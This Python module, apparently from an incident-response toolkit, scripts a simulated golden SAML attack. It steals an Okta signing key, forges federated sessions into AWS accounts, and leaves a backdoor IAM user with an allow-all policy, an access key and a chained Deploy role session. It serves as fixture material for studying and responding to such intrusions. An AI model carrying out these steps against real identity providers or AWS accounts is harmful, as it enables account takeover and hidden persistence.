"""The identity provider itself is breached: whoever has its signing key is anybody, in AWS.

No sign-in at Okta goes before the sessions that are forged with it, and nothing that is done at
Okta ends them or keeps further ones from starting.
"""

import json
from typing import Final

from irkit.model.access import CredentialKind as Kind
from irkit.secret import Secret
from irkit.world.aws_query import AwsKey, credentials_in
from irkit.world.fixtures.acme_small import DATA, DOMAIN, PROD, SANDBOX
from irkit.world.golden_saml import forged
from irkit.world.okta.saml import entity_id
from irkit.world.seats import Seat
from irkit.world.stories.ground import Ground, ago, browser, take

FORGED: Final = f"dev.anand@{DOMAIN}"
"""Who the sessions say they are; the person knows nothing of it."""
ROLE: Final = "Developer"
MADE_USER: Final = "svc-audit"

_ANYTHING: Final = json.dumps(
    {"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}
)


def play(ground: Ground) -> None:
    """Take the key, forge sessions in two accounts, and leave a key of a user behind."""
    seats = {account: steal_key(ground, account) for account in (PROD, DATA, SANDBOX)}
    for seat in seats.values():
        ground.seats.add(seat)
    with ago(ground, 70):
        prod = _enters(ground, seats[PROD])
        _enters(ground, seats[DATA])
    with ago(ground, 40):
        _stays(ground, prod)


def steal_key(ground: Ground, account: str = PROD) -> Seat:
    """Return the key as it is believed in one account: each has a provider of its own."""
    parts = {
        "issuer": entity_id(ground.okta_ids.aws_app),
        "key": ground.okta.keys.pem(),
        "provider": f"arn:aws:iam::{account}:saml-provider/okta",
        "role": ROLE,
    }
    return Seat(
        id=f"saml-key:{account}",
        kind=Kind.SAML_SIGNING_KEY,
        label=f"Okta's signing key, believed in {account}",
        user=account,
        account=account,
        credentials={name: Secret(part) for name, part in parts.items()},
        okta_url=ground.okta_url,
        aws_url=ground.aws_url,
    )


def _enters(ground: Ground, stolen: Seat) -> AwsKey:
    role = f"arn:aws:iam::{stolen.account}:role/{ROLE}"
    document = forged(stolen.credentials, FORGED, role, ground.clock())
    reply = browser(ground).aws_call(
        None,
        "sts",
        "AssumeRoleWithSAML",
        RoleArn=role,
        PrincipalArn=stolen.credentials["provider"].reveal(),
        SAMLAssertion=document,
    )
    key = credentials_in(reply)
    label = f"forged session of {FORGED} in role {ROLE} in {stolen.account}"
    take(ground, key, Kind.FEDERATED_ROLE_SESSION, FORGED, label)
    return key


def _stays(ground: Ground, session: AwsKey) -> None:
    """A user with a key, and one role further."""
    call = browser(ground).aws_call
    call(session, "iam", "CreateUser", UserName=MADE_USER)
    named = {"UserName": MADE_USER, "PolicyName": "audit", "PolicyDocument": _ANYTHING}
    call(session, "iam", "PutUserPolicy", **named)
    made = credentials_in(call(session, "iam", "CreateAccessKey", UserName=MADE_USER))
    take(ground, made, Kind.LONG_TERM_KEY, MADE_USER, f"key {made.id} of {MADE_USER}")
    entered = {"RoleArn": f"arn:aws:iam::{PROD}:role/Deploy", "RoleSessionName": "audit"}
    chained = credentials_in(call(session, "sts", "AssumeRole", **entered))
    label = f"session `audit` in role Deploy in {PROD}, entered from {ROLE}"
    take(ground, chained, Kind.CHAINED_ROLE_SESSION, FORGED, label)
